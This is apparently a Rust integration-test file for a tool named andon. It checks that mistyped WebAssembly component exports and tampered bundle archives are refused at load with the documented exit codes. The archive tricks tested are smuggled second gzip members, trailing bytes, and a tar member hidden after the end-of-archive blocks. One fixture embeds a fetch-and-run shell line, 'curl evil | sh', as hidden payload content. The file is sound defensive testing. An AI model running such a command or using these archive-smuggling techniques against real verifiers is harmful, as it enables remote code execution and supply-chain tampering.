//! Hostile input that looks right at first sight: a component export with the right
//! name but the wrong type, and bundle archives that another reader would read
//! differently (a second gzip member, a tar member hidden after the end-of-archive
//! blocks). Each is refused at load, naming the problem, with the documented exit
//! code.

use std::io::{Read as _, Write as _};
use std::path::{Path, PathBuf};

use andon_core::{AndonEngine, Error, FaultClass, LoadedComponent};
use andon_work::bundle::archive::{self, ArchiveError, ArchiveLimits, BundleFiles};
use andon_work::bundle::load::{Bundle, LoadOptions};
use andon_work::bundle::manifest::{MANIFEST_FILE, Manifest, Role};
use andon_work::bundle::{BundleError, build, trust};
use ed25519_dalek::SigningKey;
use flate2::Compression;
use flate2::write::GzEncoder;
use predicates::prelude::PredicateBooleanExt as _;
use rstest::rstest;
use serde_json::Value;

use crate::support::{andon, root, wat};

const GATE: &str = "andon:policy/policy-gate@0.1.0";
const RECIPE: &str = "andon:policy/remediation-recipe@0.1.0";

const EVIDENCE: &str = r#"{"incident_id":"INC-T-1","kind":"field_work","severity":"low","evidence":{}}"#;

fn publisher() -> SigningKey {
    SigningKey::from_bytes(&[7u8; 32])
}

fn policy() -> trust::TrustPolicy {
    trust::TrustPolicy::single(&publisher().verifying_key(), &["tai-standard-work"])
}

/// The shipped bundle's files, signed by [`publisher`].
fn signed_files() -> BundleFiles {
    let mut files = build::build(&root().join("recipes-wasm"), &build::shipped(), build::UNSIGNED_KEY_ID).unwrap().1;
    trust::sign_files(&mut files, &publisher()).unwrap();
    files
}

fn load_path(path: &Path) -> Result<Bundle, BundleError> {
    let engine = AndonEngine::new().unwrap();
    let policy = policy();
    Bundle::load_path(&engine, path, LoadOptions { trust: Some(&policy), ..Default::default() })
}

// ---------------------------------------------------------------------------
// An export with the right name but the wrong type.

#[rstest]
#[case::gate_check_without_parameters_returning_u32(
    "mistyped-gate-export.wat",
    GATE,
    "function `check` is `func() -> u32`, the world says `func(request: request) -> gate-verdict`"
)]
#[case::recipe_plan_taking_a_u32_and_returning_nothing(
    "mistyped-recipe-export.wat",
    RECIPE,
    "function `plan` is `func(request: u32)`, the world says `func(request: request) -> recipe-verdict`"
)]
#[case::gate_with_a_one_field_request_and_an_enum_verdict(
    "gate-verdict-as-enum.wat",
    GATE,
    "parameter `request`: expected `request`, found `record { incident-id }`"
)]
fn an_export_with_the_right_name_but_the_wrong_type_is_refused_at_load_naming_it(
    #[case] file: &str,
    #[case] export: &str,
    #[case] what: &str,
) {
    let engine = AndonEngine::new().unwrap();
    let err = LoadedComponent::load(&engine, &wat(file)).unwrap_err();
    assert_eq!(err.fault_class(), Some(FaultClass::InvalidComponent), "{err}");
    let Error::InvalidComponent { reason } = &err else { panic!("expected an invalid component, got {err}") };
    assert!(reason.contains(&format!("export `{export}` does not match the world")), "{reason}");
    assert!(reason.contains(what), "{reason}");
}

/// Writes a `.wat` fixture as a component file in `dir`.
fn component_file(dir: &Path, file: &str) -> PathBuf {
    let path = dir.join(file.replace(".wat", ".wasm"));
    std::fs::write(&path, wat(file)).unwrap();
    path
}

#[test]
fn inspect_reports_a_mistyped_gate_as_not_loadable_with_the_reason_and_exits_5() {
    let dir = tempfile::tempdir().unwrap();
    let component = component_file(dir.path(), "mistyped-gate-export.wat");
    let out = andon().args(["inspect", "--format", "json"]).arg(&component).assert().code(5).get_output().clone();
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    // The name alone still says which world it claims.
    assert_eq!(json["world"], "andon:policy/gate@0.1.0");
    assert_eq!(json["loadable"], false);
    let refusal = json["refusal"].as_str().unwrap();
    assert!(refusal.contains(&format!("export `{GATE}`")) && refusal.contains("function `check`"), "{refusal}");
}

#[test]
fn eval_of_a_mistyped_gate_exits_5_at_load_not_6_as_a_trap() {
    let dir = tempfile::tempdir().unwrap();
    let component = component_file(dir.path(), "mistyped-gate-export.wat");
    let evidence = dir.path().join("e.json");
    std::fs::write(&evidence, EVIDENCE).unwrap();
    andon()
        .args(["eval", "-c"])
        .arg(&component)
        .arg("-e")
        .arg(&evidence)
        .assert()
        .code(5)
        .stderr(predicates::str::contains("does not match the world").and(predicates::str::contains("`check`")));
}

#[test]
fn a_signed_bundle_carrying_a_mistyped_gate_is_refused_at_load_naming_the_component() {
    let mut files = signed_files();
    let mut manifest = Manifest::parse(&files[MANIFEST_FILE]).unwrap();
    let entry = manifest.components.iter_mut().find(|c| c.role == Role::Gate).unwrap();
    let bytes = wat("mistyped-gate-export.wat");
    entry.sha256 = andon_core::evidence::sha256_hex(&bytes);
    let (id, file) = (entry.id.clone(), entry.file.clone());
    files.insert(file, bytes);
    files.insert(MANIFEST_FILE.into(), build::manifest_json(&manifest));
    trust::sign_files(&mut files, &publisher()).unwrap();
    let engine = AndonEngine::new().unwrap();
    let policy = policy();
    let err = Bundle::load(&engine, &files, LoadOptions { trust: Some(&policy), ..Default::default() }).unwrap_err();
    match &err {
        BundleError::Component { id: named, source: Error::InvalidComponent { reason } } => {
            assert_eq!(named, &id);
            assert!(reason.contains("function `check`"), "{reason}");
        }
        other => panic!("expected the component to be refused, got {other}"),
    }
}

// ---------------------------------------------------------------------------
// Archives another reader would read differently.

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

/// The tar stream of a packed archive (one gzip member), end blocks included.
fn packed_tar(files: &BundleFiles) -> Vec<u8> {
    let mut packed = Vec::new();
    archive::pack(files, &mut packed).unwrap();
    let mut tar = Vec::new();
    flate2::read::GzDecoder::new(packed.as_slice()).read_to_end(&mut tar).unwrap();
    tar
}

/// The same, without its two end-of-archive blocks.
fn packed_tar_without_end(files: &BundleFiles) -> Vec<u8> {
    let mut tar = packed_tar(files);
    let body = tar.len() - 1024;
    assert!(tar[body..].iter().all(|&b| b == 0), "the packer ends with two zero blocks");
    tar.truncate(body);
    tar
}

/// A whole tar stream (with its end blocks) holding one file.
fn tar_of(path: &str, data: &[u8]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_ustar();
    header.set_size(data.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    builder.append_data(&mut header, path, data).unwrap();
    builder.into_inner().unwrap()
}

/// How a reader that joins gzip members, like `gzip -d | tar -t`, lists the archive.
fn list_as_gnu_tar_would(archive: &[u8]) -> Vec<String> {
    let mut tar = tar::Archive::new(flate2::read::MultiGzDecoder::new(archive));
    tar.entries().unwrap().map(|e| e.unwrap().path().unwrap().display().to_string()).collect()
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn corrupt_reason(err: BundleError) -> String {
    match err {
        BundleError::Archive(ArchiveError::Corrupt { reason, .. }) => reason,
        other => panic!("expected a corrupt archive, got {other}"),
    }
}

#[test]
fn a_second_gzip_member_smuggling_another_manifest_is_refused_and_verify_exits_8() {
    let dir = tempfile::tempdir().unwrap();
    let files = signed_files();
    let mut smuggled = gzip(&packed_tar_without_end(&files));
    let first_member = smuggled.len();
    smuggled.extend(gzip(&tar_of(MANIFEST_FILE, br#"{"name":"smuggled"}"#)));
    // The attack of the issue: a reader that joins members sees two manifests.
    let listed = list_as_gnu_tar_would(&smuggled);
    assert_eq!(listed.iter().filter(|p| *p == MANIFEST_FILE).count(), 2, "{listed:?}");
    let path = write(dir.path(), "smuggled.tar.gz", &smuggled);

    let reason = corrupt_reason(load_path(&path).unwrap_err());
    assert!(reason.contains(&format!("a second gzip member starts at byte {first_member}")), "{reason}");

    let trust_file = write(dir.path(), "trust.json", &serde_json::to_vec(&policy()).unwrap());
    andon()
        .args(["bundle", "verify"])
        .arg(&path)
        .arg("--trust")
        .arg(&trust_file)
        .assert()
        .code(8)
        .stderr(predicates::str::contains("second gzip member"));
}

#[test]
fn a_second_gzip_member_is_refused_even_after_a_complete_first_archive() {
    let files = signed_files();
    let mut archive = gzip(&packed_tar(&files));
    let first_member = archive.len();
    archive.extend(gzip(&tar_of("payload.sh", b"#!/bin/sh\n")));
    let err = archive::unpack(archive.as_slice(), &ArchiveLimits::default()).unwrap_err();
    assert!(err.to_string().contains(&format!("second gzip member starts at byte {first_member}")), "{err}");
}

#[test]
fn bytes_after_the_gzip_stream_are_refused_naming_their_offset() {
    let files = signed_files();
    let mut archive = gzip(&packed_tar(&files));
    let end = archive.len();
    archive.extend(b"trailing garbage");
    let err = archive::unpack(archive.as_slice(), &ArchiveLimits::default()).unwrap_err();
    assert!(matches!(err, ArchiveError::Corrupt { .. }), "{err}");
    assert!(err.to_string().contains(&format!("data follows the gzip stream at byte {end}")), "{err}");
}

#[test]
fn a_tar_member_hidden_after_the_end_of_archive_blocks_is_refused_naming_its_offset() {
    let dir = tempfile::tempdir().unwrap();
    let files = signed_files();
    let mut tar = packed_tar(&files);
    let hidden_at = tar.len();
    tar.extend(tar_of("payload.sh", b"#!/bin/sh\ncurl evil | sh\n"));
    let path = write(dir.path(), "hidden.tar.gz", &gzip(&tar));
    let reason = corrupt_reason(load_path(&path).unwrap_err());
    assert!(reason.contains(&format!("non-zero data at byte {hidden_at} of the tar stream")), "{reason}");
    assert!(reason.contains("after the end of the archive"), "{reason}");
}

#[rstest]
#[case::no_zero_block(0)]
#[case::a_lone_zero_block(512)]
fn an_archive_without_its_end_of_archive_marker_is_refused(#[case] zeros: usize) {
    let files = signed_files();
    let mut tar = packed_tar_without_end(&files);
    tar.resize(tar.len() + zeros, 0);
    let err = archive::unpack(gzip(&tar).as_slice(), &ArchiveLimits::default()).unwrap_err();
    assert!(matches!(err, ArchiveError::Corrupt { .. }), "{err}");
    assert!(err.to_string().contains("without its end-of-archive marker"), "{err}");
}

#[test]
fn zero_padding_after_the_end_of_archive_blocks_is_still_accepted() {
    let dir = tempfile::tempdir().unwrap();
    let files = signed_files();
    let mut tar = packed_tar(&files);
    // GNU tar pads to 10 KiB records; add a few more records of zeros besides.
    let padded = tar.len().next_multiple_of(10240) + 3 * 10240;
    tar.resize(padded, 0);
    let path = write(dir.path(), "padded.tar.gz", &gzip(&tar));
    assert_eq!(archive::unpack(std::fs::File::open(&path).unwrap(), &ArchiveLimits::default()).unwrap(), files);
    assert_eq!(load_path(&path).unwrap().manifest.name, "tai-standard-work");
}
